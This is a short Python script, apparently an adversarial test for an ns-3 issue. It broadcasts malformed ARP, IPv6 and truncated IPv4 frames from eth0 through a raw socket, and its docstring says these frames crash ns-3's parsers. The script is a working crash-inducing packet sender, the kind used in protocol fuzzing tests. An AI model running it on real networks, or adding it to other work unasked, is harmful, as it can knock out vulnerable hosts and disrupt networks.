#!/usr/bin/env python3
"""Frames that crash ns-3's parsers if they reach them (issue 15's adversarial
test): an ARP request with a 255-byte hardware address, an IPv6 packet with an
unknown next header, a truncated IPv4 packet, each sent COUNT times from eth0."""
import socket
import struct
import sys

count = int(sys.argv[1])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
src = open("/sys/class/net/eth0/address").read().strip()
src = bytes.fromhex(src.replace(":", ""))
broadcast = b"\xff" * 6
arp = struct.pack("!HHBBH", 1, 0x0800, 255, 4, 1) + b"A" * 600
ipv6 = struct.pack("!IHBB16s16s", 6 << 28, 8, 253, 64, b"\xfd" + b"\0" * 14 + b"\x01",
                   b"\xff\x02" + b"\0" * 13 + b"\x01") + b"\0" * 8
ipv4 = b"\x45\x00\xff\xff\x00\x01\x00\x00\x40\x11\x00\x00\x0a\x00\x01\x01\x0a\x00\x01\x02"
for _ in range(count):
    s.send(broadcast + src + struct.pack("!H", 0x0806) + arp)
    s.send(broadcast + src + struct.pack("!H", 0x86DD) + ipv6)
    s.send(broadcast + src + struct.pack("!H", 0x0800) + ipv4)
print("sent", 3 * count, flush=True)
